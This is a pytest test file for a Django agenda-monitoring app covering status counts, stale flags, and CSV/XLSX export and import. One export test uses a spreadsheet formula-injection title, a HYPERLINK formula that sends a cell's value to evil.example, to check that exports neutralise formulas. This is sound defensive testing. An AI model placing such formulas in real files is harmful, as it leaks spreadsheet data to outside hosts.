"""The office's view on progress: status counts, the "N of M" figure, the stale flag, export and import."""

from __future__ import annotations

import csv
import datetime
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from agenda import monitoring
from agenda.models import STALE_AFTER_DAYS, Action, Chapter, PolicyPeriod, ProgressUpdate
from agenda.resources import ActionResource
from deventer_intl.resources import formula_safe
from deventer_intl.roles import COORDINATOR
from partners.models import GlobalGoal, Sector
from tests.factories import ActionFactory, ProgressUpdateFactory

pytestmark = pytest.mark.django_db

TODAY = datetime.date.today()
STATUSES = ["idea", "planned", "in_progress", "realised", "stopped"]


@pytest.fixture
def coordinator(make_user):
    return make_user(COORDINATOR, username="carla", is_staff=True)


def chapter(number: int) -> Chapter:
    return Chapter.objects.get(period__name="2021-2026", number=number)


@pytest.fixture
def agenda():
    """Seven actions of 2021-2026 and one of 2015-2020 that the 2021 figures must not count."""
    made = [
        ActionFactory(list="A", status="idea", chapter=chapter(1), sectors=["onderwijs"]),
        ActionFactory(list="A", status="in_progress", chapter=chapter(1), sectors=["onderwijs", "sport"]),
        ActionFactory(list="A", status="realised", chapter=chapter(2), sectors=["sport"]),
        ActionFactory(list="B", status="realised", chapter=chapter(2), sectors=["onderwijs"]),
        ActionFactory(list="B", status="stopped", chapter=None, sectors=[]),
        ActionFactory(list="B", status="planned", chapter=chapter(6), sectors=["ondernemers"], public=False),
        ActionFactory(list="B", status="in_progress", chapter=chapter(6), sectors=["ondernemers"]),
    ]
    ActionFactory(period=PolicyPeriod.objects.get(name="2015-2020"), status="realised", sectors=["onderwijs"])
    return made


def cells(rows, label) -> list[int]:
    """The per-status counts of the row labelled ``label``, in the order of Action.Status."""
    return next(row["cells"] for row in rows if str(row["label"]) == str(label))


def test_status_counts_per_list_sector_and_chapter(agenda, client, coordinator):
    client.force_login(coordinator)
    response = client.get(reverse("agenda:monitoring"))
    assert response.status_code == 200
    context = response.context
    assert context["period"].name == "2021-2026", "the newest period by default"
    #                                     idea planned in_progress realised stopped
    assert cells(context["by_list"], Action.List.A.label) == [1, 0, 1, 1, 0]
    assert cells(context["by_list"], Action.List.B.label) == [0, 1, 1, 1, 1]
    assert cells(context["by_sector"], "Onderwijs") == [1, 0, 1, 1, 0]
    assert cells(context["by_sector"], "Sport") == [0, 0, 1, 1, 0]
    assert cells(context["by_sector"], "Ondernemers") == [0, 1, 1, 0, 0]
    assert "Gemeente" not in [str(row["label"]) for row in context["by_sector"]]
    assert cells(context["by_chapter"], chapter(1)) == [1, 0, 1, 0, 0]
    assert cells(context["by_chapter"], chapter(2)) == [0, 0, 0, 2, 0]
    assert cells(context["by_chapter"], chapter(6)) == [0, 1, 1, 0, 0]
    assert [row["total"] for row in context["totals"]] == [7]
    assert cells(context["totals"], context["totals"][0]["label"]) == [1, 1, 2, 2, 1]


def test_status_counts_of_the_queryset(agenda):
    period = Action.objects.filter(period__name="2021-2026")
    assert {row["status"]: row["count"] for row in period.status_counts()} == {
        "idea": 1,
        "planned": 1,
        "in_progress": 2,
        "realised": 2,
        "stopped": 1,
    }
    by_list = {(row["list"], row["status"]): row["count"] for row in period.status_counts("list")}
    assert by_list[("B", "realised")] == 1 and by_list[("A", "idea")] == 1 and ("A", "stopped") not in by_list


def test_the_figure_counts_realised_or_under_way(agenda, client, coordinator):
    client.force_login(coordinator)
    response = client.get(reverse("agenda:monitoring"))
    assert {key: response.context["figure"][key] for key in ("under_way", "total")} == {"under_way": 4, "total": 7}
    assert re.search(r"\b4\b[^<]*\b7\b", response.content.decode().split('class="monitoring-figure"')[1][:200])
    older = client.get(reverse("agenda:monitoring"), {"period": "2015-2020"}).context["figure"]
    assert (older["under_way"], older["total"]) == (1, 1)


def test_the_figure_as_of_a_date_reads_the_timelines():
    """Like the mid-term review of 2017: which actions were realised or under way on that date."""
    period = PolicyPeriod.objects.get(name="2015-2020")
    review = datetime.date(2017, 12, 15)
    started_early = ActionFactory(period=period, status="realised", start_date=datetime.date(2015, 2, 17))
    ProgressUpdateFactory(action=started_early, date=datetime.date(2016, 5, 1), status="in_progress")
    ProgressUpdateFactory(action=started_early, date=datetime.date(2019, 5, 1), status="realised")
    realised_in_time = ActionFactory(period=period, status="realised", start_date=datetime.date(2015, 2, 17))
    ProgressUpdateFactory(action=realised_in_time, date=datetime.date(2017, 6, 30), status="realised")
    ProgressUpdateFactory(action=realised_in_time, date=datetime.date(2017, 9, 1), status="")  # text only
    planned_then = ActionFactory(period=period, status="realised", start_date=datetime.date(2015, 2, 17))
    ProgressUpdateFactory(action=planned_then, date=datetime.date(2016, 1, 1), status="planned")
    ProgressUpdateFactory(action=planned_then, date=datetime.date(2018, 1, 1), status="in_progress")
    ActionFactory(period=period, status="realised", start_date=datetime.date(2018, 3, 1))  # not started yet

    figure = monitoring.under_way_figure(Action.objects.filter(period=period), as_of=review)
    assert (figure["under_way"], figure["total"], figure["as_of"]) == (2, 3, review)
    now = monitoring.under_way_figure(Action.objects.filter(period=period))
    assert (now["under_way"], now["total"]) == (4, 4)


def test_the_monitoring_page_as_of_a_date(client, coordinator):
    period = PolicyPeriod.objects.get(name="2015-2020")
    action = ActionFactory(period=period, status="realised", start_date=datetime.date(2015, 2, 17))
    ProgressUpdateFactory(action=action, date=datetime.date(2016, 5, 1), status="in_progress")
    ActionFactory(period=period, status="realised", start_date=datetime.date(2015, 2, 17))
    client.force_login(coordinator)
    response = client.get(reverse("agenda:monitoring"), {"period": "2015-2020", "as_of": "2017-12-15"})
    figure = response.context["figure"]
    assert (figure["under_way"], figure["total"]) == (1, 2)
    assert response.context["as_of"] == datetime.date(2017, 12, 15)
    html = response.content.decode()
    assert 'value="2017-12-15"' in html and '<option value="2015-2020" selected>' in html


def test_the_monitoring_page_shows_the_current_figures_for_an_impossible_date(client, coordinator):
    client.force_login(coordinator)
    response = client.get(reverse("agenda:monitoring"), {"period": "2015-2020", "as_of": "2017-02-30"})
    assert response.status_code == 200
    assert response.context["as_of"] is None and response.context["period"].name == "2015-2020"
    assert response.context["figure"] == monitoring.under_way_figure(Action.objects.filter(period__name="2015-2020"))


# --- Stale ----------------------------------------------------------------------------------------


def days_ago(days: int) -> datetime.date:
    return TODAY - datetime.timedelta(days=days)


@pytest.fixture
def stale_cases():
    return {
        "stale": ActionFactory(status="in_progress", last_update_on=days_ago(STALE_AFTER_DAYS + 1), title="Vergeten"),
        "exactly_90": ActionFactory(status="planned", last_update_on=days_ago(STALE_AFTER_DAYS), title="Net op tijd"),
        "fresh": ActionFactory(status="idea", last_update_on=days_ago(3), title="Vers"),
        "realised": ActionFactory(status="realised", last_update_on=days_ago(400), title="Klaar"),
        "stopped": ActionFactory(status="stopped", last_update_on=days_ago(400), title="Gestopt"),
        "hidden_stale": ActionFactory(status="idea", last_update_on=days_ago(200), public=False, title="Verborgen"),
    }


def test_stale_on_the_model_and_the_queryset_agree(stale_cases):
    on_model = {key for key, action in stale_cases.items() if action.is_stale()}
    assert on_model == {"stale", "hidden_stale"}
    assert set(Action.objects.stale()) == {stale_cases["stale"], stale_cases["hidden_stale"]}
    # A date of one's own: tomorrow the one of exactly 90 days is stale too.
    tomorrow = TODAY + datetime.timedelta(days=1)
    assert stale_cases["exactly_90"].is_stale(tomorrow)
    assert stale_cases["exactly_90"] in Action.objects.stale(tomorrow)
    assert not stale_cases["realised"].is_stale(tomorrow)


def test_a_progress_update_makes_a_stale_action_fresh(client, stale_cases, coordinator):
    action = stale_cases["stale"]
    client.force_login(coordinator)
    client.post(
        reverse("agenda:progress-create", kwargs={"pk": action.pk}),
        {"date": TODAY.isoformat(), "text": "Weer opgepakt."},
    )
    action.refresh_from_db()
    assert not action.is_stale() and action not in Action.objects.stale()


def titles(response) -> set[str]:
    return {action.title for action in response.context["page_obj"].object_list}


def test_the_stale_filter_is_for_the_office_only(client, stale_cases, coordinator, make_user):
    from deventer_intl.roles import PARTNER_REPRESENTATIVE

    public_titles = {"Vergeten", "Net op tijd", "Vers", "Klaar", "Gestopt"}
    response = client.get(reverse("agenda:list"), {"stale": "on"})
    assert titles(response) == public_titles, "a visitor's ?stale= is ignored"
    assert "stale" not in response.context["filter"].form.fields
    client.force_login(make_user(PARTNER_REPRESENTATIVE))
    assert titles(client.get(reverse("agenda:list"), {"stale": "on"})) == public_titles
    client.force_login(coordinator)
    response = client.get(reverse("agenda:list"), {"stale": "on"})
    assert titles(response) == {"Vergeten"}, "the public list never shows unpublished actions, stale or not"
    assert titles(client.get(reverse("agenda:list"))) == public_titles


def test_the_public_list_flags_stale_actions(client, stale_cases):
    html = client.get(reverse("agenda:list")).content.decode()
    rows = {
        title: row for row in html.split("<tr")[1:] for title in ("Vergeten", "Net op tijd", "Klaar") if title in row
    }
    assert "tag--warning" in rows["Vergeten"]
    assert "tag--warning" not in rows["Net op tijd"] and "tag--warning" not in rows["Klaar"]


def test_the_monitoring_page_lists_the_stale_actions(client, stale_cases, coordinator):
    client.force_login(coordinator)
    response = client.get(reverse("agenda:monitoring"))
    assert response.context["stale_count"] == 2
    assert [action.title for action in response.context["stale"]] == ["Verborgen", "Vergeten"]  # oldest first


def test_my_agenda_counts_the_stale_actions_i_may_edit(client, stale_cases, make_user):
    from deventer_intl.roles import AMBASSADOR

    ambassador = make_user(AMBASSADOR, sector="sport")
    stale_cases["stale"].sectors.add(Sector.objects.get(slug="sport"))
    client.force_login(ambassador)
    assert client.get(reverse("agenda:mine")).context["stale_count"] == 1


# --- Export ---------------------------------------------------------------------------------------


EXPORT_HEADER = [
    "period",
    "code",
    "list",
    "chapter",
    "title",
    "description",
    "status",
    "progress",
    "lead_partner",
    "sectors",
    "municipality_role",
    "global_goals",
    "countries",
    "start_date",
    "end_date",
    "public",
    "last_update_on",
    "stale",
]


def exported_rows(client, fmt: str, **params) -> list[dict]:
    """The rows by column name: the export writes labels in the user's language (Dutch here) and typed cells,
    read back as the import reads them (labels to column names; yes/no as 1/0, dates as ISO dates)."""
    response = client.get(reverse("agenda:monitoring-export", kwargs={"fmt": fmt}), params)
    assert response.status_code == 200
    assert f'.{fmt}"' in response["Content-Disposition"] and "attachment" in response["Content-Disposition"]
    if fmt == "csv":
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        reader = csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig")))
        header, *rows = list(reader)
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        header, *rows = [[as_text(cell) for cell in row] for row in sheet.iter_rows(values_only=True)]
    assert header[:2] == ["Beleidsperiode", "Code"] and header[-1] == "Al 90 dagen geen update"
    columns = ActionResource().column_names_by_header()
    header = [columns[label.casefold()] for label in header]
    assert header == EXPORT_HEADER
    return [dict(zip(header, row, strict=True)) for row in rows]


def as_text(cell) -> str:
    if cell is None:
        return ""
    if isinstance(cell, bool):
        return "1" if cell else "0"
    if isinstance(cell, datetime.datetime) and cell.time() == datetime.time(0):
        return cell.date().isoformat()
    return str(cell)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_holds_every_action_with_its_stale_flag(client, coordinator, stale_cases, fmt):
    ActionFactory(period=PolicyPeriod.objects.get(name="2015-2020"), code="B7", list="B", title="Oud")
    stale_cases["stale"].sectors.set(Sector.objects.filter(slug__in=["sport", "onderwijs"]))
    client.force_login(coordinator)
    rows = exported_rows(client, fmt)
    assert len(rows) == 7, "unpublished actions too: this is the office's export"
    by_title = {row["title"]: row for row in rows}
    assert by_title["Vergeten"]["stale"] == "1" and by_title["Verborgen"]["stale"] == "1"
    assert {by_title[t]["stale"] for t in ("Net op tijd", "Vers", "Klaar", "Gestopt", "Oud")} == {"0"}
    vergeten = by_title["Vergeten"]
    assert vergeten["period"] == "2021-2026" and vergeten["status"] == "in_progress"
    assert set(vergeten["sectors"].split(",")) == {"sport", "onderwijs"}
    assert vergeten["last_update_on"] == days_ago(STALE_AFTER_DAYS + 1).isoformat()
    assert rows[0]["period"] == "2015-2020", "oldest period first"
    only_2021 = exported_rows(client, fmt, period="2021-2026")
    assert {row["title"] for row in only_2021} == {a.title for a in stale_cases.values()}


def test_export_does_not_turn_a_title_into_a_spreadsheet_formula(client, coordinator):
    """Titles are typed by ambassadors; the office opens the export in Excel: a formula there must stay text."""
    ActionFactory(title='=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")')
    client.force_login(coordinator)
    response = client.get(reverse("agenda:monitoring-export", kwargs={"fmt": "xlsx"}))
    sheet = load_workbook(io.BytesIO(response.content)).active
    title = sheet.cell(row=2, column=EXPORT_HEADER.index("title") + 1)
    assert sheet.cell(row=1, column=EXPORT_HEADER.index("title") + 1).value == "Titel"
    assert title.data_type != "f", f"exported as a formula: {title.value!r}"
    csv_response = client.get(reverse("agenda:monitoring-export", kwargs={"fmt": "csv"}))
    row = next(r for r in csv.DictReader(io.StringIO(csv_response.getvalue().decode("utf-8-sig"))))
    assert not row["Titel"].startswith("="), row["Titel"]


@pytest.mark.parametrize("title", ["==1+1", "+31 6 1234 5678", "-2+3", "@SUM(A1:A2)"])
def test_export_quotes_every_formula_start_not_only_one_equals_sign(client, coordinator, title):
    """import-export's own escaping drops one leading "=" only; the shared FormulaSafeResource quotes them all,
    and keeps the rest of the row (progress, dates) as it was."""
    ActionFactory(title=title, progress=40)
    client.force_login(coordinator)
    csv_response = client.get(reverse("agenda:monitoring-export", kwargs={"fmt": "csv"}))
    row = next(r for r in csv.DictReader(io.StringIO(csv_response.getvalue().decode("utf-8-sig"))))
    assert row["Titel"] == "'" + title and row["Voortgang (%)"] == "40"


def test_formula_safe_leaves_numbers_dates_and_plain_text_alone():
    assert [formula_safe(value) for value in ["-12.50", "1,234", "Sibiu", "", None, 7, datetime.date(2026, 1, 1)]] == [
        "-12.50",
        "1,234",
        "Sibiu",
        "",
        None,
        7,
        datetime.date(2026, 1, 1),
    ]
    assert formula_safe("-A1") == "'-A1"


# --- Import through the admin -----------------------------------------------------------------------


IMPORT_HEADER = [
    "period",
    "code",
    "list",
    "chapter",
    "title",
    "description",
    "status",
    "progress",
    "lead_partner",
    "sectors",
    "municipality_role",
    "global_goals",
    "countries",
    "start_date",
    "end_date",
    "public",
]
GOOD_ROWS = [
    [
        "2021-2026",
        "A31",
        "A",
        "1",
        "Handelsmissie naar Sibiu",
        "Met ondernemers naar Roemenië.",
        "planned",
        "10",
        "",
        "ondernemers,gemeente",
        "leads",
        "8,17",
        "RO",
        "2026-04-01",
        "2026-10-31",
        "1",
    ],
    [
        "2021-2026",
        "B32",
        "B",
        "",
        "Jeugd op de Hanzedagen",
        "",
        "in_progress",
        "40",
        "",
        "sport",
        "facilitates",
        "",
        "",
        "",
        "",
        "0",
    ],
]


def write_csv(path, header, rows):
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def upload(client, model: str, path):
    with open(path, "rb") as handle:
        return client.post(
            reverse(f"admin:agenda_{model}_import"), {"import_file": handle, "format": "0", "resource": "0"}
        )


def confirm(client, model: str, preview):
    form = preview.context["confirm_form"]
    return client.post(
        reverse(f"admin:agenda_{model}_process_import"), {name: form[name].value() for name in form.fields}, follow=True
    )


def test_actions_are_previewed_then_imported(client, coordinator, tmp_path):
    client.force_login(coordinator)
    preview = upload(client, "action", write_csv(tmp_path / "acties.csv", IMPORT_HEADER, GOOD_ROWS))
    assert preview.status_code == 200 and "Handelsmissie naar Sibiu" in preview.content.decode()
    assert not Action.objects.exists(), "the preview is a dry run"
    confirm(client, "action", preview)
    assert Action.objects.count() == 2
    mission = Action.objects.get(code="A31")
    assert (mission.period.name, mission.chapter.number, mission.status, mission.progress, mission.public) == (
        "2021-2026",
        1,
        "planned",
        10,
        True,
    )
    assert sorted(s.slug for s in mission.sectors.all()) == ["gemeente", "ondernemers"]
    assert sorted(g.number for g in mission.global_goals.all()) == [8, 17]
    assert [str(c.code) for c in mission.countries.all()] == ["RO"]
    assert Action.objects.get(code="B32").public is False


def test_importing_the_same_file_again_updates_instead_of_duplicating(client, coordinator, tmp_path):
    client.force_login(coordinator)
    path = write_csv(tmp_path / "acties.csv", IMPORT_HEADER, GOOD_ROWS)
    confirm(client, "action", upload(client, "action", path))
    changed = [GOOD_ROWS[0][:4] + ["Handelsmissie naar Sibiu en Cluj"] + GOOD_ROWS[0][5:], GOOD_ROWS[1]]
    confirm(client, "action", upload(client, "action", write_csv(tmp_path / "twee.csv", IMPORT_HEADER, changed)))
    assert Action.objects.count() == 2
    assert Action.objects.get(code="A31").title == "Handelsmissie naar Sibiu en Cluj"


BAD_ROWS = [
    (
        ["2021-2026", "A33", "A", "", "Kapot", "", "idea", "0", "", "bestaat-niet", "leads", "", "", "", "", "1"],
        "bestaat-niet",
    ),
    (["2021-2026", "X33", "A", "", "Kapot", "", "idea", "0", "", "sport", "leads", "", "", "", "", "1"], "code"),
    (["2021-2026", "B33", "A", "", "Kapot", "", "idea", "0", "", "sport", "leads", "", "", "", "", "1"], "B33|code"),
    (["2021-2026", "A33", "A", "9", "Kapot", "", "idea", "0", "", "sport", "leads", "", "", "", "", "1"], "9"),
    (["2030-2035", "A33", "A", "", "Kapot", "", "idea", "0", "", "sport", "leads", "", "", "", "", "1"], "2030-2035"),
    (["2021-2026", "A33", "A", "", "Kapot", "", "realised", "50", "", "sport", "leads", "", "", "", "", "1"], "100"),
]


@pytest.mark.parametrize(
    "bad_row, problem", BAD_ROWS, ids=["sector", "code", "code-list", "chapter", "period", "realised-50"]
)
def test_a_file_with_one_bad_row_imports_nothing_and_names_the_row(client, coordinator, tmp_path, bad_row, problem):
    client.force_login(coordinator)
    response = upload(
        client, "action", write_csv(tmp_path / "acties.csv", IMPORT_HEADER, [GOOD_ROWS[0], bad_row, GOOD_ROWS[1]])
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert response.context.get("confirm_form") is None, "no way to confirm a file with errors"
    assert re.search(problem, html)
    assert re.search(r"Regel nummer: 2 - ", html) or re.search(r"<tr>\s*<td>2\s*</td>\s*<td class=\"errors\">", html)
    assert not Action.objects.exists()


def test_progress_updates_are_imported_and_move_the_last_update(client, coordinator, tmp_path):
    action = ActionFactory(code="A40", status="in_progress", last_update_on=datetime.date(2025, 1, 1))
    client.force_login(coordinator)
    header = ["id", "period", "code", "date", "author", "text", "status", "progress"]
    rows = [
        ["", "2021-2026", "A40", "2025-06-01", "carla", "Eerste bijeenkomst.", "", ""],
        ["", "2021-2026", "A40", "2025-09-15", "", "Tweede bijeenkomst.", "in_progress", "50"],
    ]
    preview = upload(client, "progressupdate", write_csv(tmp_path / "updates.csv", header, rows))
    assert preview.status_code == 200 and preview.context["confirm_form"] is not None
    assert not ProgressUpdate.objects.exists()
    confirm(client, "progressupdate", preview)
    updates = list(action.updates.order_by("date"))
    assert [(u.text, u.author, u.progress) for u in updates] == [
        ("Eerste bijeenkomst.", coordinator, None),
        ("Tweede bijeenkomst.", None, 50),
    ]
    action.refresh_from_db()
    assert action.last_update_on == datetime.date(2025, 9, 15)


def test_a_progress_update_for_an_unknown_action_imports_nothing(client, coordinator, tmp_path):
    ActionFactory(code="A40")
    client.force_login(coordinator)
    header = ["id", "period", "code", "date", "author", "text", "status", "progress"]
    rows = [
        ["", "2021-2026", "A40", "2025-06-01", "", "Goed.", "", ""],
        ["", "2021-2026", "A41", "2025-06-01", "", "Bestaat niet.", "", ""],
    ]
    response = upload(client, "progressupdate", write_csv(tmp_path / "updates.csv", header, rows))
    assert response.context.get("confirm_form") is None and "A41" in response.content.decode()
    assert not ProgressUpdate.objects.exists()


def test_import_needs_the_model_permission_not_just_an_office_role(client, make_user, tmp_path):
    """An ambassador who happens to be staff may not rewrite other sectors' actions through a spreadsheet.

    The rule "agenda.propose_action" (anyone in the office may propose an action in the browser) must not
    open the admin's import, which updates existing actions by period and code without the change rule.
    """
    from deventer_intl.roles import AMBASSADOR

    ActionFactory(code="A31", title="Van een andere sector", sectors=["onderwijs"])
    ambassador = make_user(AMBASSADOR, sector="sport", is_staff=True)
    client.force_login(ambassador)
    response = upload(client, "action", write_csv(tmp_path / "acties.csv", IMPORT_HEADER, GOOD_ROWS))
    if response.status_code == 200 and response.context.get("confirm_form") is not None:
        confirm(client, "action", response)
    assert Action.objects.get(code="A31").title == "Van een andere sector"
    assert response.status_code == 403


@pytest.mark.parametrize("count", [5, 40])
def test_the_csv_export_is_streamed_in_chunks_with_queries_that_do_not_grow(
    client, coordinator, count, django_assert_max_num_queries
):
    """Memory flat in the number of rows: the CSV leaves in chunks of rows as they are read (a chunked read
    with its prefetches: the same queries at 5 and 40 rows)."""
    for _number in range(count):
        ActionFactory()
    client.force_login(coordinator)
    response = client.get(reverse("agenda:monitoring-export", kwargs={"fmt": "csv"}))
    assert response.streaming
    with django_assert_max_num_queries(6):
        chunks = list(monitoring.export_csv(period_name=None, rows_per_chunk=10))
    assert len(chunks) == count // 10 + 1
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
    assert rows[0] == ActionResource().get_export_headers() and len(rows) == count + 1
    assert b"".join(chunks) == response.getvalue()


def test_the_streamed_csv_is_the_resource_csv_cell_for_cell(make_partner):
    """The stream reads plain values for speed; the resource (import-export, also behind the XLSX) stays the
    definition of every cell."""
    lead = make_partner(name="Stichting Sibiu", countries=["RO"])
    period = PolicyPeriod.objects.get(name="2021-2026")
    chapter = Chapter.objects.filter(period=period).first()
    ActionFactory(
        period=period, chapter=chapter, lead_partner=lead, title='=HYPERLINK("x")', description="Een; twee, drie\n"
    )
    stale = ActionFactory(title="-2+3", status="in_progress", progress=40, last_update_on=days_ago(400))
    stale.sectors.set(Sector.objects.filter(slug__in=["sport", "onderwijs", "gemeente"]))
    stale.global_goals.set(GlobalGoal.objects.filter(number__in=[17, 4]))
    stale.countries.set(["UG", "RO"])
    ActionFactory(period=PolicyPeriod.objects.get(name="2015-2020"), list="B", public=False, end_date=None)
    streamed = b"".join(monitoring.export_csv(period_name=None)).decode("utf-8-sig")
    resource_csv, _content_type = monitoring.export(fmt="csv", period_name=None)
    resource_rows = list(csv.reader(io.StringIO(resource_csv.decode("utf-8-sig"))))
    assert list(csv.reader(io.StringIO(streamed))) == resource_rows
    assert resource_rows[1:] and {row[-1] for row in resource_rows[1:]} == {"0", "1"}  # the stale flag, both ways
    assert "'=HYPERLINK" in streamed
